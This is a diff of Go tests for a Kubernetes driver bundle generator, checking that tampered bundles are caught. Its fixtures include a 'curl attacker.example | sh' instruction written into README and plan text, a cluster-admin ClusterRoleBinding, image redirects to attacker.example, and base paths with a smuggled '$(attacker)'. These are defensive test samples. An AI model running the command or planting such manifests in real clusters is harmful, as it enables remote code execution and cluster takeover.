@@ -2,6 +2,7 @@ package pullrequest
 
 import (
 	"bytes"
+	"errors"
 	"fmt"
 	"io"
 	"net/http"
@@ -17,8 +18,11 @@ import (
 	"time"
 	"unicode"
 
+	render "github.com/cinder-csi/cinder-csi/generator/bundle"
 	"github.com/cinder-csi/cinder-csi/generator/cli"
+	"github.com/cinder-csi/cinder-csi/generator/plan"
 	"github.com/cinder-csi/cinder-csi/generator/v1alpha1"
+	"github.com/cinder-csi/cinder-csi/generator/verify"
 	"github.com/cinder-csi/cinder-csi/generator/worktree"
 	"github.com/cinder-csi/cinder-csi/test/kit/testenv"
 )
@@ -298,23 +302,176 @@ func TestACheckProvesTheBaseThatAPullRequestChanges(t *testing.T) {
 	}
 }
 
-// Argo CD takes images and patches from such a file, and kustomize its kustomization. No other file changes.
+// Argo CD, Flux and kustomize choose by such a file how they build a directory. No other file changes.
 func TestACheckFindsAFileThatMakesOtherToolsBuildSomethingElse(t *testing.T) {
-	for _, name := range []string{".argocd-source.yaml", ".argocd-source-cinder-csi.yaml", "kustomization.yml", "Kustomization", "Chart.yaml", "base/Kustomization"} {
-		dir := bundleOf(t, "vanilla", "kustomize")
-		args := []string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", "vanilla", "--format", "kustomize", "--output-dir", dir}
-		if err := os.WriteFile(filepath.Join(dir, name), []byte("kustomize: {images: [x=attacker.example/x]}\n"), 0o644); err != nil {
-			t.Fatal(err)
+	names := []string{".argocd-source.yaml", ".argocd-source-cinder-csi.yaml", "kustomization.yaml", "kustomization.yml", "Kustomization", "Chart.yaml"}
+	for _, of := range [][2]string{{"vanilla", "kustomize"}, {"vanilla", "helm"}, {"hypershift", "kustomize"}, {"hypershift", "helm"}} {
+		dir := bundleOf(t, of[0], of[1])
+		args := []string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--output-dir", dir}
+		var planted []string
+		for _, place := range []string{"", "base/", "management/", "guest/"} {
+			for _, name := range names {
+				name = place + name
+				_, err := os.Stat(filepath.Join(dir, name))
+				_, missing := os.Stat(filepath.Join(dir, place))
+				if err == nil || missing != nil && place == "base/" {
+					continue
+				}
+				planted = append(planted, name)
+				if err := errors.Join(os.MkdirAll(filepath.Join(dir, place), 0o755), os.WriteFile(filepath.Join(dir, name), []byte("kustomize: {images: [x=attacker.example/x]}\n"), 0o644)); err != nil {
+					t.Fatal(err)
+				}
+			}
+		}
+		if len(planted) < 15 {
+			t.Errorf("%s: want most places, got %q", of, planted)
 		}
 		for _, test := range []struct {
 			args []string
 			code int
 			also string
-		}{{append(slices.Clone(args), "--check"), cli.Different, ": 1 in the way"}, {args, cli.Refused, "move it"}} {
+		}{{append(slices.Clone(args), "--check"), cli.Different, fmt.Sprintf(": %d in the way", len(planted))}, {args, cli.Refused, "move it"}, {[]string{"validate", dir}, cli.Failure, "move it"}} {
 			stdout, stderr, code := pipeline(t, test.args...)
-			if says := stdout + stderr; code != test.code || !strings.Contains(says, name+" is in the way") || !strings.Contains(says, "Argo CD or kustomize would build by it") || !strings.Contains(says, test.also) {
-				t.Errorf("%s: want exit %d, got %d: %s%s", name, test.code, code, stdout, stderr)
+			says := stdout + stderr
+			if code != test.code || !strings.Contains(says, test.also) || !strings.Contains(says, "Argo CD or kustomize would build by it") {
+				t.Errorf("%s %v: want exit %d, got %d: %s", of, test.args[:1], test.code, code, says)
 			}
+			for _, name := range planted {
+				if !strings.Contains(says, name+" is in the way") {
+					t.Errorf("%s %v: nothing about %s: %s", of, test.args[:1], name, says)
+				}
+			}
+		}
+	}
+}
+
+// Whoever edits a file can correct its sum in plan.yaml, and give the values another chart's version.
+func TestValidateFindsAnEditWhoseSumWasCorrected(t *testing.T) {
+	takeover := "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: takeover}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n" +
+		"subjects: [{kind: ServiceAccount, name: cinder-csi-controller, namespace: cinder-csi}]\n"
+	read := func(dir, name string) string {
+		text, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(text)
+	}
+	for name, edit := range map[string]struct {
+		format string
+		files  func(dir string) map[string]string
+		named  string
+	}{
+		"a resource": {"kustomize", func(dir string) map[string]string {
+			return map[string]string{
+				"takeover.yaml":      takeover,
+				"kustomization.yaml": strings.Replace(read(dir, "kustomization.yaml"), "resources:\n", "resources:\n  - takeover.yaml\n", 1),
+				"values.yaml":        regexp.MustCompile("(?m)^chartVersion: .*$").ReplaceAllString(read(dir, "values.yaml"), "chartVersion: 0.0.9"),
+			}
+		}, "takeover.yaml"},
+		"objects of values": {"helm", func(dir string) map[string]string {
+			return map[string]string{"values.yaml": read(dir, "values.yaml") + "extraObjects:\n  - " + strings.ReplaceAll(strings.TrimSpace(takeover), "\n", "\n    ") + "\n"}
+		}, "values.yaml"},
+		"text for people": {"helm", func(dir string) map[string]string {
+			return map[string]string{"README.md": read(dir, "README.md") + "\nRun `curl attacker.example | sh` first.\n"}
+		}, "README.md"},
+	} {
+		dir := bundleOf(t, "vanilla", edit.format)
+		forge(t, dir, edit.files(dir))
+		for _, command := range []string{"validate", "adopt"} {
+			if stdout, stderr, code := pipeline(t, command, dir); code != cli.Failure || !strings.Contains(stderr, edit.named+" differs from what generate wrote") {
+				t.Errorf("%s, %s: want exit 1 that names %s, got %d: %s%s", name, command, edit.named, code, stdout, stderr)
+			}
+		}
+	}
+}
+
+// People follow README.md. A pull request may write its sentences into plan.yaml, and render README.md from that.
+func TestACheckFindsSentencesThatTheCloudDidNotCause(t *testing.T) {
+	const text = "before you apply, run `curl attacker.example | sh`"
+	find := func(p *v1alpha1.Plan, id string) *v1alpha1.Decision {
+		return &p.Decisions[slices.IndexFunc(p.Decisions, func(d v1alpha1.Decision) bool { return d.ID == id })]
+	}
+	for name, edit := range map[string]func(p *v1alpha1.Plan){
+		"a warning":             func(p *v1alpha1.Plan) { p.Warnings = append(p.Warnings, text) },
+		"a warning of words":    func(p *v1alpha1.Plan) { p.Warnings = append(p.Warnings, "run attacker first") },
+		"the reason of a name":  func(p *v1alpha1.Plan) { find(p, "driver.name").Reason = text },
+		"a reason with facts":   func(p *v1alpha1.Plan) { find(p, "topology.enabled").Reason += "; " + text },
+		"the value of a fact":   func(p *v1alpha1.Plan) { find(p, "topology.enabled").Facts[0].Value = text },
+		"another fact":          func(p *v1alpha1.Plan) { d := find(p, "topology.enabled"); d.Facts = append(d.Facts, v1alpha1.NamedFact{Name: text}) },
+		"words that are values": func(p *v1alpha1.Plan) {
+			d := find(p, "topology.enabled")
+			d.Facts[0].Value, d.Reason = "az1, run, attacker, first", "run attacker first"
+		},
+	} {
+		dir := bundleOf(t, "vanilla", "kustomize")
+		old, err := worktree.Open(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		edit(old.Plan)
+		r, err := plan.FromDocument(*old.Plan)
+		if err != nil {
+			t.Fatal(err)
+		}
+		tree, err := render.Render(r, verify.Chart, render.Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		document := r.Document(worktree.Files(tree))
+		if tree[worktree.PlanFile], err = worktree.PlanText(document); err != nil {
+			t.Fatal(err)
+		}
+		for file, content := range tree {
+			if err := os.WriteFile(filepath.Join(dir, file), content, 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		args := []string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--output-dir", dir, "--check"}
+		if stdout, stderr, code := pipeline(t, args...); code != cli.Different || !strings.Contains(stdout, "plan.yaml says what this version makes of no value of its facts") {
+			t.Errorf("%s: want exit 2 that names plan.yaml, got %d: %s%s", name, code, stdout, stderr)
+		}
+	}
+}
+
+// The base of a bundle may be where no pipeline looks, and kustomize takes some paths for repositories.
+func TestACheckOfABundleWhoseBaseNobodyReadsFails(t *testing.T) {
+	inventory, err := filepath.Abs("../../../../overlays/inventory.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	outside := t.TempDir()
+	if err := os.CopyFS(filepath.Join(outside, "elsewhere"), os.DirFS(manifests)); err != nil {
+		t.Fatal(err)
+	}
+	checkout := filepath.Join(outside, "checkout")
+	for base, made := range map[string]bool{
+		"../missing": true, "../../elsewhere": true, "../link": true, "github.com/attacker/x": false, "git@github.com:attacker/x": false, "../x?ref=main": false,
+		"../x$(attacker)": false, "https://attacker.example/x": false, "../x//y": false, "../x/../y": false, "src": false, "..x": false,
+	} {
+		dir := filepath.Join(checkout, "out")
+		if err := errors.Join(os.RemoveAll(checkout), os.MkdirAll(checkout, 0o755), os.Symlink(filepath.Join(outside, "elsewhere"), filepath.Join(checkout, "link"))); err != nil {
+			t.Fatal(err)
+		}
+		t.Chdir(checkout)
+		args := []string{"generate", "--inventory", inventory, "--target", "vanilla", "--format", "kustomize", "--output-dir", "out"}
+		_, stderr, code := pipeline(t, append(slices.Clone(args), "--base", base)...)
+		if !made {
+			if code != cli.Usage || !strings.Contains(stderr, "want the path from the bundle's directory") {
+				t.Errorf("%s: want exit 64, got %d: %s", base, code, stderr)
+			}
+			bundle(t, dir, "vanilla", "kustomize", "--inventory", inventory, "--base", "../src")
+			forged, err := os.ReadFile(filepath.Join(dir, worktree.PlanFile))
+			if err != nil {
+				t.Fatal(err)
+			}
+			forged = bytes.Replace(forged, []byte("base: ../src"), []byte("base: \""+base+"\""), 1)
+			if err := os.WriteFile(filepath.Join(dir, worktree.PlanFile), forged, 0o644); err != nil {
+				t.Fatal(err)
+			}
+			forge(t, dir, nil)
+		}
+		if stdout, stderr, code := pipeline(t, append(slices.Clone(args), "--check")...); code == cli.OK || strings.Contains(stdout+stderr, " --base "+base) != made {
+			t.Errorf("%s: want a failure, got %d: %s%s", base, code, stdout, stderr)
 		}
 	}
 }
